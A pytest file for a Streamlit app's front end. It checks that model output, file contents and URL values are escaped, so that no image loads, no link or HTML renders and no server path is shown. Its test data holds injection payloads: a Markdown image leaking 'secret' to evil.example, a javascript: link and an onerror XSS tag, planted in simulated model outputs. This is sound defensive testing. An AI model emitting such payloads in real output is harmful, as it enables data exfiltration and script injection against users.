"""Text from a model, a file or the URL is text in the UI (issue 15): no image loads, no link or
autolink exists, no label renders Markdown, no message shows the server's folders, and a paste
over the idea limit is kept with a message."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import (
    AlertBase,
    HeadingBase,
    Markdown,
    Radio,
    Toast,
)
from test_ui_support import (
    FRONTEND,
    app,
    cassette_entries,
    service,
    session_at,
    ui_env,
    write_cassette,
)

from haytham.idea.checks import MAX_CHARS

IMAGE = "![x](http://evil.example/leak?d=secret)"
JS_LINK = "[click](javascript:alert(1))"
HTML = "<img src=x onerror=alert(1)>"
REF_IMAGE = "![r][ref]\n\n[ref]: http://evil.example/ref.png"
BARE = "see http://evil.example/bare and www.evil.example and a@evil.example"
PAYLOAD = f"{IMAGE} {JS_LINK} {HTML} $x^2$ {BARE}"

_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")  # a backslash escape: the character is literal
_SYNTAX = re.compile(
    r"\][ \t]*[(\[:]"  # an inline link or image, a reference link or image, a definition
    r"|<[A-Za-z/!?]"  # an autolink or raw HTML
    r"|\$"  # a formula
)
# addresses GitHub-flavoured Markdown links by itself: found in the text once escapes are
# resolved (the autolink step runs on the parsed text, so ``http\://`` is still linked)
_ADDRESS = re.compile(r"(?i:https?://|www\.)|[\w.+-]@[\w-]+\.\w")


def live(body: str) -> str | None:
    """The first piece of ``body`` that Streamlit's Markdown would render as a link, an image,
    HTML or a formula, or ``None``."""
    found = _SYNTAX.search(_ESCAPED.sub("\0", body)) or _ADDRESS.search(
        re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", body)
    )
    return found.group(0) if found else None


def _walk(node: object) -> Iterator[object]:
    yield node
    for child in (getattr(node, "children", None) or {}).values():
        yield from _walk(child)


def rendered(at: AppTest) -> list[str]:
    """Everything on the page that Streamlit renders as Markdown: text elements, message
    boxes, headings, and every label (expanders, tabs, status, widgets) and radio option."""
    out: list[str] = []
    for node in _walk(at._tree):
        if isinstance(node, Markdown | AlertBase | HeadingBase | Toast):
            out.append(str(node.value))
        label = getattr(node, "label", None)
        if isinstance(label, str):
            out.append(label)
        if isinstance(node, Radio):
            out += [str(o) for o in node.options]
    return out


def assert_nothing_live(at: AppTest) -> list[str]:
    assert not at.exception, at.exception
    bodies = rendered(at)
    bad = [(live(b), b[:200]) for b in bodies if live(b)]
    assert not bad, bad
    return bodies


# -- the helper, unit by unit ------------------------------------------------------------------
def test_the_live_markdown_detector_sees_every_payload() -> None:
    for raw in (IMAGE, JS_LINK, HTML, REF_IMAGE, "[a][b]", "<http://e.example>", "$x$", BARE):
        assert live(raw), raw
    assert live("http://e.example") and live("www.e.example") and live("a@e.example")
    assert live(r"http\://e\.example") and live(r"a\@e\.example")  # escapes do not stop these
    assert not live(r"\!\[x\]\(http:" + "\u200b" + r"//e\)") and not live(r"\<img\>")


def test_md_escapes_every_markdown_control_character() -> None:
    from frontend_streamlit.components.safe_text import md

    for char in "\\`*_{}[]()#+-.!|<>~$:&@":
        assert md(char) == "\\" + char, char
    assert md("# h\n- item\n1. one\n> quote") == "\\# h  \n\\- item  \n1\\. one  \n\\> quote"
    for raw in (IMAGE, JS_LINK, HTML, REF_IMAGE, BARE, "**bold**"):
        assert not live(md(raw)), raw
        assert "*" not in _ESCAPED.sub("", md(raw))  # no emphasis either


def test_labels_are_one_line_and_literal() -> None:
    from frontend_streamlit.components.safe_text import label, name

    assert name("access_model") == "access_model"  # snake_case holds no Markdown
    assert name("_x_ [a](http://e.example)") == label("_x_ [a](http://e.example)")

    assert label("**Title** [x](y)\nsecond\tline") == "\\*\\*Title\\*\\* \\[x\\]\\(y\\) second line"
    assert "\n" not in label("a\n\n# b\r\nc")


def test_safe_markdown_keeps_formatting_but_nothing_loads_or_links() -> None:
    from frontend_streamlit.components.safe_text import safe_markdown

    formatted = "# Title\n\n**bold** and _it_\n\n- item\n1. one\n\n| a | b |\n|:--|--:|\n| 1 | 2 |"
    assert safe_markdown(formatted) == formatted  # formatting is left alone
    out = safe_markdown(f"{formatted}\n\n{PAYLOAD}\n\n{REF_IMAGE}\n<http://evil.example/auto>")
    assert live(out) is None
    assert "evil" in out and "secret" in out  # the destination is shown, as text


def test_a_backslash_in_model_text_cannot_cancel_the_escape() -> None:
    from frontend_streamlit.components.safe_text import safe_markdown

    for raw in (r"\![x](http://e.example/i)", r"\\[x](http://e.example/i)", r"\\\\<b>", r"\\$x$"):
        assert live(safe_markdown(raw)) is None, raw
    assert safe_markdown(r"\[already escaped\]") == r"\[already escaped\]"


def test_code_spans_hold_any_backticks() -> None:
    from frontend_streamlit.components.safe_text import code

    out = code("a ``` b ` [x](http://e.example)")
    assert out == "````a ``` b ` [x](http://e.example)````"  # the text cannot close the span
    assert code("`x`") == "`` `x` ``" and code("replay") == "`replay`"


def test_a_badge_label_cannot_close_the_badge() -> None:
    from frontend_streamlit.components.safe_text import badge_label

    for raw in (r"GO\](http://e.example) [x", "NO-GO] ![x](http://e.example/i)"):
        # what st.badge makes of it: ``:color-badge[`` + label with its brackets escaped + ``]``
        body = badge_label(raw).replace("[", "\\[").replace("]", "\\]")
        assert "]" not in _ESCAPED.sub("", body), body
        assert live(body) is None


def test_error_messages_show_no_server_paths() -> None:
    from frontend_streamlit.components.safe_text import no_paths

    message = "Could not write /srv/haytham/sessions/abc/gates.json: the disk is full."
    assert no_paths(message) == "Could not write …/gates.json: the disk is full."
    assert no_paths("see http://host/a/b, 1/2") == "see http://host/a/b, 1/2"


# -- the pages, on sessions whose model outputs carry the payloads -------------------------------
def _poison(entries: list[dict]) -> list[dict]:
    for entry in entries:
        for item in entry["response"]:
            body = item.get("input")
            if not isinstance(body, dict):
                continue
            agent = entry["agent"]
            if agent == "mvp-scope":
                body["content"] = f"{PAYLOAD}\n\n{REF_IMAGE}\n\n" + body["content"]
                body["tldr"] = f"{IMAGE} {body['tldr']}"
            elif agent == "story-generation":
                story = body["payload"]["stories"][0]
                story["title"] = f"**Bold** {IMAGE}\n# {JS_LINK}"
                story["description"] = f"{PAYLOAD}\n{story['description']}"
                story["acceptance_criteria"][0] += f" {JS_LINK}"
            elif agent == "anchor-extraction":
                # the anchor has a token budget: one payload per field shown
                body["intent"]["goal"] += f" {HTML}"
                body["invariants"][0]["value"] += f" {IMAGE}"
                ambiguous = next(i for i in body["invariants"] if i.get("ambiguity"))
                ambiguous["ambiguity"] += f" {JS_LINK}"
                ambiguous["clarification_options"][0] += f" {IMAGE}"
            elif agent == "validation-summary":
                body["payload"]["executive_summary"] += f"\n\n{PAYLOAD}"
                body["payload"]["next_steps"][0] += f" {JS_LINK}"
            elif agent in ("verifier-why", "verifier-what-coordinator"):
                body["warnings"] = [*body.get("warnings", []), PAYLOAD]
    return entries


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, str]]:
    """(sessions folder, a session waiting at Gate 1, a finished session), every model output
    above carrying the payloads. Shared by the page tests: the runs are the slow part."""
    root = tmp_path_factory.mktemp("injection")
    cassette = write_cassette(root / "poisoned.jsonl", _poison(cassette_entries()))
    with pytest.MonkeyPatch.context() as mp:
        ui_env(mp, root / "sessions", cassette=cassette)
        at_gate_1 = session_at(1, sid="at-gate-1")
        finished = session_at(None, sid="finished")
        yield root / "sessions", at_gate_1, finished


@pytest.fixture()
def env(poisoned: tuple[Path, str, str], monkeypatch: pytest.MonkeyPatch) -> Path:
    sessions = poisoned[0]
    ui_env(monkeypatch, sessions, cassette=sessions.parent / "poisoned.jsonl")
    return sessions


def _shown(bodies: list[str], needle: str) -> bool:
    """``needle`` (raw text) appears in some body once escapes are undone."""
    return any(needle in re.sub(r"\\(.)", r"\1", b).replace("\u200b", "") for b in bodies)


def test_stage_markdown_on_a_gate_page_loads_and_links_nothing(
    poisoned: tuple[Path, str, str], env: Path
) -> None:
    at = app(poisoned[2], "views/gate_2.py")
    assert_nothing_live(at)
    at.session_state["output_mvp-scope"] = True  # the output renders when its expander opens
    at.run()
    bodies = assert_nothing_live(at)
    assert _shown(bodies, IMAGE) and _shown(bodies, JS_LINK) and _shown(bodies, HTML)
    assert any("## " in b and "|---" in b for b in bodies)  # the stage keeps its formatting
    assert _shown(bodies, PAYLOAD)  # the verifier's warning, as text


def test_a_story_title_is_a_literal_one_line_label(
    poisoned: tuple[Path, str, str], env: Path
) -> None:
    at = app(poisoned[2], "views/stories.py")
    assert_nothing_live(at)
    titles = [e.label for e in at.expander if e.label.startswith("STORY\\-001")]
    assert titles == [
        "STORY\\-001 · \\*\\*Bold\\*\\* \\!\\[x\\]\\(http\\:\u200b//evil\\.example/leak?d\\=secret\\)"
        " \\# \\[click\\]\\(javascript\\:alert\\(1\\)\\)"
    ]
    at.session_state["story_STORY-001"] = True
    at.run()
    bodies = assert_nothing_live(at)
    assert _shown(bodies, PAYLOAD) and _shown(bodies, JS_LINK)


def test_anchor_and_clarification_options_at_gate_1_are_text(
    poisoned: tuple[Path, str, str], env: Path
) -> None:
    at = app(poisoned[1], "views/gate_1.py")
    bodies = assert_nothing_live(at)
    assert at.radio, "the ambiguous invariant offers its options"
    assert any(_shown(list(r.options), IMAGE) for r in at.radio)
    assert _shown(bodies, IMAGE) and _shown(bodies, JS_LINK) and _shown(bodies, HTML)


def test_the_verdict_page_shows_model_text_as_text(
    poisoned: tuple[Path, str, str], env: Path
) -> None:
    at = app(poisoned[2], "views/verdict.py")
    bodies = assert_nothing_live(at)
    assert _shown(bodies, PAYLOAD) and _shown(bodies, JS_LINK)


@pytest.mark.parametrize(
    "sid", ["[x](http://evil.example)", "![a](http://e.example/x)", "<img src=x onerror=alert(1)>"]
)
def test_a_session_id_from_the_url_is_text_and_no_path_is_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sid: str
) -> None:
    sessions = tmp_path / "sessions"
    ui_env(monkeypatch, sessions)
    at = app(sid, "views/gate_1.py")
    bodies = assert_nothing_live(at)
    assert [e.value for e in at.error] and _shown([e.value for e in at.error], sid)
    assert not any(str(tmp_path) in b or "/sessions" in b for b in bodies)


def test_a_missing_session_names_its_id_not_the_sessions_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sessions = tmp_path / "sessions"
    ui_env(monkeypatch, sessions)
    sessions.mkdir()
    at = app("no-such-session", "views/stories.py")
    bodies = assert_nothing_live(at)
    assert [e.value for e in at.error] == [
        "No session no\\-such\\-session: it may have been deleted."
    ]
    assert not any("sessions" in b.replace("Pick another session", "") for b in bodies)


def test_a_paste_over_the_idea_limit_is_kept_with_a_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ui_env(monkeypatch, tmp_path / "sessions")
    at = app(None, "views/new_idea.py")
    box = at.text_area(key="idea_text")
    assert not box.max_chars  # a browser silently drops a paste that would pass max_chars
    long = "word " * (MAX_CHARS // 5 + 10)
    box.set_value(long).run()
    assert at.text_area(key="idea_text").value == long  # nothing is lost
    assert any(f"the limit is {MAX_CHARS:,}" in w.value for w in at.warning)


def test_no_page_puts_a_field_in_a_hand_made_code_span() -> None:
    """A field in a hand-written code span could close it with a backtick of its own; pages
    use ``code()``, whose fence the text cannot close."""
    sources = {p: p.read_text("utf-8") for p in FRONTEND.rglob("*.py")}
    hand_made = {p.name for p, s in sources.items() if re.search(r"`\{[^}]+\}`", s)}
    assert not hand_made, hand_made


# -- every page, on sessions whose every string field carries the payload (issue 29) -----------
PAGES = sorted(p.name for p in (FRONTEND / "views").glob("[!_]*.py"))  # not __init__.py
# what the app writes itself on the Sessions page: a link to its own Run page, and a code span
_APP_WRITTEN = re.compile(
    r"^\[Open in a new tab\]\(\./run\?session=[a-z0-9-]+\)$|^Each browser tab keeps its own session"
)


@pytest.fixture(scope="module")
def everywhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, str]]:
    """(sessions folder, a session at Gate 1, a finished one): every string field of their
    state (what the types allow), their files and an event carry an image, a link and HTML."""
    from untrusted_helpers import poison_session

    root = tmp_path_factory.mktemp("everywhere")
    with pytest.MonkeyPatch.context() as mp:
        ui_env(mp, root / "sessions")
        at_gate_1 = session_at(1, sid="at-gate-1")
        finished = session_at(None, sid="finished")
        with service() as svc:
            for sid in (at_gate_1, finished):
                poison_session(svc.store.open(sid))
        yield root / "sessions", at_gate_1, finished


@pytest.mark.parametrize("page", PAGES)
def test_every_page_of_a_poisoned_session_loads_and_links_nothing(
    everywhere: tuple[Path, str, str], monkeypatch: pytest.MonkeyPatch, page: str
) -> None:
    from untrusted_helpers import EVIL

    sessions, at_gate_1, finished = everywhere
    ui_env(monkeypatch, sessions)
    seen = []
    for sid in (at_gate_1, finished):
        at = app(sid, f"views/{page}")
        assert not at.exception, at.exception
        bodies = [b for b in rendered(at) if not _APP_WRITTEN.search(b)]
        bad = [(live(b), b[:200]) for b in bodies if live(b)]
        assert not bad, bad
        seen += bodies
    # no session text there, or only in a table (a grid, which renders no Markdown); the Run
    # page cuts the idea short before the payload, and the stale-checks banner names stages
    if page not in (
        "new_idea.py",
        "providers.py",
        "evaluations.py",
        "sessions.py",
        "run.py",
        "stories.py",
        "fidelity.py",
    ):
        assert any(EVIL in b.replace("\\", "") for b in seen), "the payload is not on the page"
